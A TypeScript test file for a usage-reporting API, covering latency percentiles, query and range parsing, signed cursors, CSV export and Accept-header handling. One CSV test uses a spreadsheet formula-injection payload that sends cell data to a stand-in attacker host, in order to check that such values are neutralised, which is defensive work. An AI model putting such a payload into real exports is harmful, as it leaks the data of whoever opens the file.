import { randomBytes } from 'node:crypto';
import { ApiError } from '../../src/errors/api-error';
import { CursorCodec } from '../../src/shared/cursor';
import { LATENCY_BUCKETS, bucketValue, latencyBucketOf, latencyPercentiles, percentileOf } from '../../src/usage/latency-histogram';
import { csvDocument, csvField } from '../../src/usage/usage-csv';
import {
  bucketEndOf,
  bucketStartOf,
  coverRange,
  decodeUsageCursor,
  encodeUsageCursor,
  monthStarts,
  parseGroupBy,
  parseMetadataFilter,
  parseRange,
} from '../../src/usage/usage-query';
import { prefersCsv } from '../../src/usage/usage.handlers';

const at = (text: string) => Date.parse(text);

function paramOf(run: () => unknown): string | null {
  try {
    run();
  } catch (error) {
    if (error instanceof ApiError) return error.param;
    throw error;
  }
  throw new Error('did not throw');
}

describe('latency histogram (issue #28: percentiles from summed rollup histograms)', () => {
  it('buckets are ordered, bounded and cover every latency', () => {
    expect(latencyBucketOf(0)).toBe(0);
    expect(latencyBucketOf(15)).toBe(0);
    expect(latencyBucketOf(16)).toBe(1);
    expect(latencyBucketOf(19)).toBe(1);
    expect(latencyBucketOf(20)).toBe(2);
    expect(latencyBucketOf(2_147_483_647)).toBe(LATENCY_BUCKETS - 1);
    let previous = 0;
    let descending = 0;
    for (let ms = 0; ms < 2_000_000; ms += 7) {
      const bucket = latencyBucketOf(ms);
      if (bucket < previous) descending += 1;
      previous = bucket;
    }
    expect(descending).toBe(0);
  });

  it('the reported value is within 13% of every latency in its bucket from 100 ms up to the open last bucket (2^(1/6) - 1 = 12.2%, plus whole-millisecond bounds)', () => {
    let worst = 0;
    for (let ms = 100; ms < 660_000; ms += 3) worst = Math.max(worst, Math.abs(bucketValue(latencyBucketOf(ms)) - ms) / ms);
    expect(worst).toBeLessThan(0.13);
    expect(worst).toBeGreaterThan(0.1);
  });

  it('nearest-rank percentiles of a summed histogram; null when empty', () => {
    const counts = new Array<number>(LATENCY_BUCKETS).fill(0);
    expect(percentileOf(counts, 50)).toBeNull();
    // 90 runs near 100 ms, 9 near 1 s, 1 near 10 s.
    counts[latencyBucketOf(100)] = 90;
    counts[latencyBucketOf(1000)] = 9;
    counts[latencyBucketOf(10_000)] = 1;
    const { p50, p95, p99 } = latencyPercentiles(counts);
    expect(p50).toBe(bucketValue(latencyBucketOf(100)));
    expect(p95).toBe(bucketValue(latencyBucketOf(1000)));
    expect(p99).toBe(bucketValue(latencyBucketOf(1000)));
    expect(percentileOf(counts, 100)).toBe(bucketValue(latencyBucketOf(10_000)));
  });
});

describe('usage query parsing', () => {
  const NOW = at('2026-11-20T13:25:00Z');

  it('ranges: whole hours, to after from, at most 366 days, hour buckets at most 31 days', () => {
    expect(parseRange('2026-11-01T00:00:00Z', '2026-11-02T05:00:00+01:00', undefined, NOW)).toEqual({
      from: at('2026-11-01T00:00:00Z'),
      to: at('2026-11-02T04:00:00Z'),
    });
    expect(paramOf(() => parseRange('2026-11-01T00:00:01Z', '2026-11-02T00:00:00Z', undefined, NOW))).toBe('from');
    expect(paramOf(() => parseRange('2026-11-01T00:00:00Z', '2026-11-02T00:30:00Z', undefined, NOW))).toBe('to');
    expect(paramOf(() => parseRange('2026-11-01T00:00:00Z', '2026-11-01T00:00:00Z', undefined, NOW))).toBe('to');
    expect(paramOf(() => parseRange('2025-01-01T00:00:00Z', '2026-01-02T01:00:00Z', 'day', NOW))).toBe('to');
    expect(parseRange('2025-01-01T00:00:00Z', '2026-01-02T00:00:00Z', 'day', NOW).to).toBe(at('2026-01-02T00:00:00Z'));
    expect(paramOf(() => parseRange('2026-01-01T00:00:00Z', '2026-02-01T01:00:00Z', 'hour', NOW))).toBe('bucket');
    expect(paramOf(() => parseRange('yesterday', '2026-02-01T00:00:00Z', 'hour', NOW))).toBe('from');
  });

  it("ranges left out: to the end of the current hour, from the start of the month of the range's last hour", () => {
    expect(parseRange(undefined, undefined, undefined, NOW)).toEqual({ from: at('2026-11-01T00:00:00Z'), to: at('2026-11-20T14:00:00Z') });
    expect(parseRange(undefined, undefined, 'hour', at('2026-12-01T00:00:00Z'))).toEqual({ from: at('2026-12-01T00:00:00Z'), to: at('2026-12-01T01:00:00Z') });
    expect(parseRange(undefined, '2026-08-01T00:00:00Z', 'day', NOW)).toEqual({ from: at('2026-07-01T00:00:00Z'), to: at('2026-08-01T00:00:00Z') });
    expect(parseRange('2026-11-19T00:00:00Z', undefined, 'hour', NOW)).toEqual({ from: at('2026-11-19T00:00:00Z'), to: at('2026-11-20T14:00:00Z') });
  });

  it('group_by: the six dimensions and metadata.<name>, each once, at most three metadata entries', () => {
    expect(parseGroupBy(undefined)).toEqual([]);
    expect(parseGroupBy('owner,model,metadata.team')).toEqual([{ kind: 'owner' }, { kind: 'model' }, { kind: 'metadata', name: 'team' }]);
    expect(parseGroupBy('project,key')).toEqual([{ kind: 'project' }, { kind: 'key' }]);
    expect(paramOf(() => parseGroupBy('project,project'))).toBe('group_by');
    expect(paramOf(() => parseGroupBy('model,model'))).toBe('group_by');
    expect(paramOf(() => parseGroupBy('colour'))).toBe('group_by');
    expect(paramOf(() => parseGroupBy('metadata.'))).toBe('group_by');
    expect(paramOf(() => parseGroupBy('metadata.a,metadata.b,metadata.c,metadata.d'))).toBe('group_by');
  });

  it('metadata filter name:value (the value may hold colons)', () => {
    expect(parseMetadataFilter('team:a:b')).toEqual({ name: 'team', value: 'a:b' });
    expect(parseMetadataFilter('team:')).toEqual({ name: 'team', value: '' });
    expect(paramOf(() => parseMetadataFilter(':x'))).toBe('metadata');
  });

  it('bucket math: UTC hours, days and calendar months (leap February included)', () => {
    const hour = at('2028-02-29T17:00:00Z');
    expect(bucketStartOf(hour, 'hour')).toBe(hour);
    expect(bucketStartOf(hour, 'day')).toBe(at('2028-02-29T00:00:00Z'));
    expect(bucketStartOf(hour, 'month')).toBe(at('2028-02-01T00:00:00Z'));
    expect(bucketEndOf(at('2028-02-01T00:00:00Z'), 'month')).toBe(at('2028-03-01T00:00:00Z'));
    expect(bucketEndOf(at('2028-12-01T00:00:00Z'), 'month')).toBe(at('2029-01-01T00:00:00Z'));
    expect(monthStarts({ from: at('2026-11-15T00:00:00Z'), to: at('2027-01-01T01:00:00Z') })).toEqual([
      at('2026-11-01T00:00:00Z'),
      at('2026-12-01T00:00:00Z'),
      at('2027-01-01T00:00:00Z'),
    ]);
    expect(monthStarts({ from: at('2026-11-01T00:00:00Z'), to: at('2026-12-01T00:00:00Z') })).toEqual([at('2026-11-01T00:00:00Z')]);
  });

  it('cursors round-trip only with the query they came from, and only as issued', () => {
    const cursors = new CursorCodec([randomBytes(32)]);
    const cursor = encodeUsageCursor(cursors, 'q1', [12, 'key_a', '']);
    expect(decodeUsageCursor(cursors, cursor, 'q1', 3)).toEqual([12, 'key_a', '']);
    expect(paramOf(() => decodeUsageCursor(cursors, cursor, 'q2', 3))).toBe('cursor');
    expect(paramOf(() => decodeUsageCursor(cursors, cursor, 'q1', 2))).toBe('cursor');
    expect(paramOf(() => decodeUsageCursor(cursors, '%%%', 'q1', 3))).toBe('cursor');
    expect(paramOf(() => decodeUsageCursor(cursors, encodeUsageCursor(cursors, 'q1', [1.5]), 'q1', 1))).toBe('cursor');
    // The same values unsigned, or signed by another gateway: not issued here.
    const forged = Buffer.from(JSON.stringify({ q: 'q1', v: ['x', 'key_a', ''] })).toString('base64url');
    expect(paramOf(() => decodeUsageCursor(cursors, forged, 'q1', 3))).toBe('cursor');
    const elsewhere = encodeUsageCursor(new CursorCodec([randomBytes(32)]), 'q1', [12, 'key_a', '']);
    expect(paramOf(() => decodeUsageCursor(cursors, elsewhere, 'q1', 3))).toBe('cursor');
  });
});

describe('coverRange: a range as signed pieces of hours, whole days and whole months', () => {
  const HOUR = 3_600_000;
  const DAY = 86_400_000;
  /** How many times the pieces count the hour starting at `hour` (each piece counting its grain's rows in [from, to)). */
  const countOf = (pieces: ReturnType<typeof coverRange>, hour: number) =>
    pieces.reduce((sum, piece) => sum + (hour >= piece.from && hour < piece.to ? piece.sign : 0), 0);

  it('every hour of the range counted once and none outside it, each piece whole in its grain, for ranges around month ends', () => {
    const starts = [at('2024-01-27T00:00:00Z'), at('2024-02-27T05:00:00Z'), at('2026-08-29T00:00:00Z'), at('2026-11-30T23:00:00Z')];
    const lengths = [HOUR, 5 * HOUR, DAY, DAY + 3 * HOUR, 3 * DAY, 29 * DAY, 31 * DAY, 90 * DAY, 90 * DAY + 7 * HOUR, 200 * DAY];
    for (const from of starts) {
      for (const length of lengths) {
        const range = { from, to: from + length };
        for (const coarsest of ['hour', 'day', 'month'] as const) {
          const pieces = coverRange(range, coarsest);
          for (const piece of pieces) {
            expect(piece.to).toBeGreaterThan(piece.from);
            if (piece.grain === 'day') expect([piece.from % DAY, piece.to % DAY]).toEqual([0, 0]);
            if (piece.grain === 'month') expect([bucketStartOf(piece.from, 'month'), bucketEndOf(piece.from, 'month')]).toEqual([piece.from, piece.to]);
            expect(['hour', 'day', 'month'].indexOf(piece.grain)).toBeLessThanOrEqual(['hour', 'day', 'month'].indexOf(coarsest));
          }
          const wrong: number[] = [];
          for (let hour = from - 40 * DAY; hour < range.to + 40 * DAY; hour += HOUR) {
            if (countOf(pieces, hour) !== (hour >= range.from && hour < range.to ? 1 : 0)) wrong.push(hour);
          }
          expect([new Date(from).toISOString(), length, coarsest, wrong.length]).toEqual([new Date(from).toISOString(), length, coarsest, 0]);
        }
      }
    }
  });

  it('the last 90 days: the first days alone, whole months, and the current month less its days to come', () => {
    const pieces = coverRange({ from: at('2026-08-29T00:00:00Z'), to: at('2026-11-27T00:00:00Z') }, 'month');
    const iso = (ms: number) => new Date(ms).toISOString().slice(0, 10);
    expect(pieces.map((p) => [p.grain, iso(p.from), iso(p.to), p.sign])).toEqual([
      ['day', '2026-08-29', '2026-09-01', 1],
      ['month', '2026-09-01', '2026-10-01', 1],
      ['month', '2026-10-01', '2026-11-01', 1],
      ['month', '2026-11-01', '2026-12-01', 1],
      ['day', '2026-11-27', '2026-12-01', -1],
    ]);
    // Hours at the edges of a range that is not whole days; hour grain alone for hour buckets.
    expect(coverRange({ from: at('2026-11-01T05:00:00Z'), to: at('2026-11-03T07:00:00Z') }, 'day').map((p) => [p.grain, iso(p.from), iso(p.to)])).toEqual([
      ['hour', '2026-11-01', '2026-11-02'],
      ['day', '2026-11-02', '2026-11-03'],
      ['hour', '2026-11-03', '2026-11-03'],
    ]);
    expect(coverRange({ from: at('2026-11-01T00:00:00Z'), to: at('2026-11-03T00:00:00Z') }, 'hour')).toHaveLength(1);
  });
});

describe('usage CSV (RFC 4180)', () => {
  it('quotes fields with commas, quotes or line breaks, doubling quotes; null is empty; CRLF rows', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvDocument(['owner', 'credits'], [['x,y', 3]])).toBe('owner,credits\r\n"x,y",3\r\n');
  });

  it('a text cell a spreadsheet would read as a formula gets a leading quote; numbers never do', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\rx')).toBe('"\'\rx"');
    expect(csvField('=HYPERLINK("http://evil.example/?d="&A1,"open")')).toBe('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-3)).toBe('-3');
  });

  it('Accept: CSV when text/csv ranks above JSON', () => {
    expect(prefersCsv(undefined)).toBe(false);
    expect(prefersCsv('text/csv')).toBe(true);
    expect(prefersCsv('application/json')).toBe(false);
    expect(prefersCsv('*/*')).toBe(false);
    expect(prefersCsv('text/csv, application/json')).toBe(true);
    expect(prefersCsv('application/json, text/csv')).toBe(false);
    expect(prefersCsv('application/json;q=0.5, text/csv')).toBe(true);
    expect(prefersCsv('text/csv;q=0')).toBe(false);
  });
});
